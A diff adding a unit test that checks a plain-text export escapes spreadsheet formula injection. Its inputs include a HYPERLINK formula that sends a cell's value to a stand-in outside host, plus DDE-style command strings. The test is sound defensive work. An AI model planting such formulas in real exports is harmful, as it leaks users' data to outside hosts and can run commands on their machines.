@@ -111,6 +111,18 @@ describe('evidence', () => {
   })
 })
 
+test('text to paste into a sheet runs nothing there', () => {
+  const cells = ['=HYPERLINK("https://elsewhere.example?"&A1)', '+1+cmd', '@sum(A1)', '-12.5', '-2+3|x']
+  const text = toPlainText(
+    { ...metricEvidence(analysis, null, 'roas'), title: '=1+1' },
+    { headers: ['=now()', 'Spend'], rows: [{ row: 2, cells }] },
+  )
+  for (const line of text.split('\n'))
+    for (const cell of line.split('\t')) expect(cell).toMatch(/^(?![=+@])(?!-(?![\d.]+$))/)
+  expect(text).toEndWith(`\t'-2+3|x`)
+  expect(text).toContain('\t-12.5\t')
+})
+
 describe('rows of the file', () => {
   test.each([
     ['1,234.50', '.', 1234.5],
